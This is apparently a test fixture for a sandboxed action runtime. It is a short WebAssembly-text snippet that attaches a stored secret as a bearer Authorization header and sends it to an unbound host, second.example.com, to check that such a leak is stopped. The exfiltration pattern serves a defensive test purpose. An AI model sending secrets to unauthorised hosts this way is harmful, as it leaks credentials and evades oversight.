;; Sends a secret to a host that it is not bound to.
;; grants: http, secrets
;; with: http
(import "greenroom:action/http@1.3.0" "send" (func $send (param i32 i32 i32)))
(import "greenroom:action/secrets@1.3.0" "get" (func $secret (param i32 i32 i32)))
(data (i32.const 4096) "http://second.example.com:‹PORT›/echo")
(data (i32.const 5000) "Authorization")
(data (i32.const 5100) "Bearer __greenroom_secret_crm__")
(data (i32.const 5400) "")
;; run:
(call $header (i32.const 5000) (i32.const 5100))
(call $request (i32.const 0) (i32.const 4096) (i32.const 0))
